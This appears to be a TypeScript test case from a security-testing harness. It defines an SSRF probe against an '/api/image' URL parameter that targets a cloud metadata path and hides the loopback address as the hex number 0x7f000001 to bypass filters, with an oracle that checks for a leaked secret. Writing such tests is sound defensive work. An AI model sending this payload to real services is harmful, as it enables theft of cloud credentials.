import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'
import { query } from '../../visitor/visitor.ts'

/** The same with the address as one hexadecimal number. */
export const ssrfImageHex: Attack = defineAttack({
  id: 'ssrf-image-hex',
  class: 'ssrf',
  title: 'The same with the address as one hexadecimal number',
  cwe: 918,
  capec: 664,
  technique: 'T1552.005',
  preconditions: [],

  steps: ({ visitor, sink }) =>
    visitor.get(`/api/image${query({ url: sink.url('latest/meta-data/', '0x7f000001') })}`),
  oracle: (answer, { sink }) => sink.hits().length > 0 && answer.text.includes(sink.secret),
  twin: ({ visitor }) =>
    visitor.get(`/api/image${query({ url: 'https://pictures.supplier.invalid/tents/ridgeline.jpg' })}`),
  // The supplier does not exist; what counts is that the application may try.
  twinServed: (answer) => answer.status === 502 && answer.text.includes('could not fetch'),
})
